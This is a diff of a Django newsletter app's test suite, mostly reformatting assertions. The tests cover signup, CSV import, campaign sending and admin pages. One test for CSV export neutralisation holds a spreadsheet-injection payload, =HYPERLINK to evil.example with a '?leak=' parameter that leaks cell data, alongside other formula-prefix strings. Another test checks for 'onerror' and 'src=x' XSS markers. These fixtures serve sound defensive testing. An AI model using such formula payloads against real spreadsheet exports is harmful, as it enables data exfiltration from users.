-    assert response.status_code == 200 and "Please check your inbox" in response.content.decode()
-    assert Subscriber.objects.filter(email="patient@example.org", status="pending").exists()
-    assert DBTaskResult.objects.filter(task_path="newsletter.tasks.send_confirmation", status="READY").count() == 1
+    assert (
+        response.status_code == 200
+        and "Please check your inbox" in response.content.decode()
+    )
+    assert Subscriber.objects.filter(
+        email="patient@example.org", status="pending"
+    ).exists()
+    assert (
+        DBTaskResult.objects.filter(
+            task_path="newsletter.tasks.send_confirmation", status="READY"
+        ).count()
+        == 1
+    )
     assert hanging_smtp.connections == []  # nobody even tried to connect
 
 
@@ -892,8 +1157,15 @@ def test_tasks_do_not_import_services():
     import newsletter.tasks
 
     tree = ast.parse(Path(newsletter.tasks.__file__).read_text())
-    imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) for alias in node.names}
-    imported |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
+    imported = {
+        alias.name
+        for node in ast.walk(tree)
+        if isinstance(node, ast.ImportFrom)
+        for alias in node.names
+    }
+    imported |= {
+        node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
+    }
     assert "services" not in imported and "newsletter.services" not in imported
 
 
@@ -923,12 +1195,23 @@ def test_signup_refuses_addresses_mail_cannot_reach(client, mailoutbox, email, m
 @pytest.mark.django_db
 def test_csv_import_and_test_send_use_the_same_address_rule(client, mailoutbox):
     client.force_login(StaffFactory(is_superuser=True, email="manager@example.org"))
-    response = _import(client, b'email,consent_source\nx@localhost,Paper form\n"""<b>""@example.org",Paper form\n')
+    response = _import(
+        client,
+        b'email,consent_source\nx@localhost,Paper form\n"""<b>""@example.org",Paper form\n',
+    )
     html = response.content.decode()
-    assert response.status_code == 400 and "not localhost" in html and "without quotation marks" in html
+    assert (
+        response.status_code == 400
+        and "not localhost" in html
+        and "without quotation marks" in html
+    )
     assert not Subscriber.objects.exists()
     campaign = CampaignFactory()
-    page = client.post(reverse("admin:newsletter_campaign_send_test", args=[campaign.pk]), {"email": "x@[127.0.0.1]"}, follow=True)
+    page = client.post(
+        reverse("admin:newsletter_campaign_send_test", args=[campaign.pk]),
+        {"email": "x@[127.0.0.1]"},
+        follow=True,
+    )
     assert "No test sent" in page.content.decode() and not mailoutbox
 
 
@@ -941,12 +1224,21 @@ def test_csv_export_neutralises_formulas(client):
     import csv
     import io
 
-    names = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click")', "+SUM(1+1)", "-2+3", "@SUM(1)", "\tTab", "\rReturn"]
+    names = [
+        '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
+        "+SUM(1+1)",
+        "-2+3",
+        "@SUM(1)",
+        "\tTab",
+        "\rReturn",
+    ]
     for number, name in enumerate(names):
         SubscriberFactory(email=f"formula{number}@example.org", name=name)
     SubscriberFactory(email="plain@example.org", name="Dara Sok")
     client.force_login(StaffFactory(groups=["Newsletter managers"]))
-    body = b"".join(client.get(reverse("admin:newsletter_subscriber_export")).streaming_content).decode()
+    body = b"".join(
+        client.get(reverse("admin:newsletter_subscriber_export")).streaming_content
+    ).decode()
     rows = {row["email"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}
     for number, name in enumerate(names):
         assert rows[f"formula{number}@example.org"]["name"] == "'" + name
@@ -972,7 +1264,11 @@ def test_campaign_email_has_no_iframe_and_nothing_from_inside_one(smtp_server):
     message = smtp_server.messages[0]["message"]
     html, text = message.get_body(("html",)).get_content(), text_part(message)
     for part in (html, text):
-        assert "iframe" not in part.lower() and "onerror" not in part and "src=x" not in part
+        assert (
+            "iframe" not in part.lower()
+            and "onerror" not in part
+            and "src=x" not in part
+        )
         assert "https://www.youtube.com/watch?v=dQw4w9WgXcQ" in part
     assert "Watch the video: COMMIT 10 years" in html
 
@@ -986,13 +1282,18 @@ def test_message_pages_do_not_offer_the_footer_form(client):
     pending = SubscriberFactory(status="pending")
     member = SubscriberFactory()
     confirm_url = reverse("newsletter:confirm", args=[confirmation_token(pending)])
-    unsubscribe_url = reverse("newsletter:unsubscribe", args=[unsubscribe_token(member.pk)])
+    unsubscribe_url = reverse(
+        "newsletter:unsubscribe", args=[unsubscribe_token(member.pk)]
+    )
     pages = [client.get(confirm_url), client.post(confirm_url), client.get(unsubscribe_url), client.post(unsubscribe_url),
              client.get(reverse("newsletter:confirm", args=["broken"]))]  # fmt: skip
     assert "Subscription confirmed" in pages[1].content.decode()
     for response in pages:
         html = response.content.decode()
-        assert 'id="footer-signup-heading"' not in html and 'name="robots" content="noindex"' in html
+        assert (
+            'id="footer-signup-heading"' not in html
+            and 'name="robots" content="noindex"' in html
+        )
         assert 'rel="canonical"' not in html
 
 
@@ -1020,14 +1321,22 @@ def test_demo_archive_holds_the_2016_editions_as_sent(client):
 
     call_command("load_demo", "--no-admin", stdout=StringIO())
     html = client.get(reverse("newsletter:archive")).content.decode()
-    assert "UN-ACT April 2016 Newsletter" in html and "UN-ACT January 2016 Newsletter" in html
+    assert (
+        "UN-ACT April 2016 Newsletter" in html
+        and "UN-ACT January 2016 Newsletter" in html
+    )
     assert "demo edition" not in html.lower()
     for campaign in Campaign.objects.all():
-        assert campaign.status == "sent" and campaign.recipient_count == campaign.sent_count == 3
+        assert (
+            campaign.status == "sent"
+            and campaign.recipient_count == campaign.sent_count == 3
+        )
         assert campaign.sent_at.year == 2016
         page = client.get(campaign.get_absolute_url())
         assert page.status_code == 200
-        for href in re.findall(r'href="(/(?:posts|publications)/[^"]+)"', campaign.body):
+        for href in re.findall(
+            r'href="(/(?:posts|publications)/[^"]+)"', campaign.body
+        ):
             assert client.get(href).status_code == 200, href
     call_command("load_demo", "--no-admin", stdout=StringIO())
     assert Campaign.objects.count() == 2 and Delivery.objects.count() == 6
@@ -1037,10 +1346,14 @@ def test_demo_archive_holds_the_2016_editions_as_sent(client):
 
 
 @pytest.mark.django_db(transaction=True)
-def test_campaign_page_sends_a_test_and_sends_then_shows_progress_read_only(client, smtp_server):
+def test_campaign_page_sends_a_test_and_sends_then_shows_progress_read_only(
+    client, smtp_server
+):
     SubscriberFactory.create_batch(2)
     client.force_login(StaffFactory(is_superuser=True, email="manager@example.org"))
-    campaign = CampaignFactory(subject="June edition", body="<p>Hello <strong>readers</strong>.</p>")
+    campaign = CampaignFactory(
+        subject="June edition", body="<p>Hello <strong>readers</strong>.</p>"
+    )
     change_url = reverse("admin:newsletter_campaign_change", args=[campaign.pk])
     page = client.get(change_url).content.decode()
     test_url = reverse("admin:newsletter_campaign_send_test", args=[campaign.pk])
@@ -1048,16 +1361,26 @@ def test_campaign_page_sends_a_test_and_sends_then_shows_progress_read_only(clie
     assert reverse("admin:newsletter_campaign_send", args=[campaign.pk]) in page
     client.post(test_url, {"email": "manager@example.org"})
     client.post(test_url, {"email": "Colleague@Example.org"})
-    assert [m["to"] for m in smtp_server.messages] == [["manager@example.org"], ["Colleague@Example.org"]]
-    assert all(m["message"]["Subject"] == "[Test] June edition" for m in smtp_server.messages)
+    assert [m["to"] for m in smtp_server.messages] == [
+        ["manager@example.org"],
+        ["Colleague@Example.org"],
+    ]
+    assert all(
+        m["message"]["Subject"] == "[Test] June edition" for m in smtp_server.messages
+    )
     assert client.get(test_url).status_code == 405
-    client.post(reverse("admin:newsletter_campaign_send", args=[campaign.pk]), {"confirm": "yes"})
+    client.post(
+        reverse("admin:newsletter_campaign_send", args=[campaign.pk]),
+        {"confirm": "yes"},
+    )
     page = client.get(change_url).content.decode()
     assert "<progress" in page and "remaining 2 of 2" in page
     assert 'name="_save"' not in page and 'name="_continue"' not in page  # read-only
     assert "&lt;p&gt;" not in page and "Hello <strong>readers</strong>." in page
     assert test_url not in page
     # A POST to the change page cannot edit it either.
-    client.post(change_url, {"subject": "Changed", "slug": campaign.slug, "body": "<p>x</p>"})
+    client.post(
+        change_url, {"subject": "Changed", "slug": campaign.slug, "body": "<p>x</p>"}
+    )
     campaign.refresh_from_db()
     assert campaign.subject == "June edition"
